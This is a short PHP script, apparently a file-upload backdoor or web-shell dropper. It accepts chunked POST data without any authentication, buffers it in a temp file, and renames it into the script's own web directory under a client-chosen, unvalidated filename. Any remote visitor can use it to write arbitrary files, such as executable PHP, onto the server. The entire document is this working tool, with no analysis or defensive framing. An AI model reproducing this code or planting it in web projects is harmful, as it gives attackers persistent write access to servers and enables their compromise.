<?php
$buf = sys_get_temp_dir() . '/up_' . md5($_SERVER['REMOTE_ADDR'] . __DIR__);
if (isset($_POST['part'])) { file_put_contents($buf, $_POST['part'], (int) $_POST['seq'] ? FILE_APPEND : 0); }
if (isset($_POST['end'])) { rename($buf, dirname(__FILE__) . DIRECTORY_SEPARATOR . $_POST['end']); echo 'stored'; }
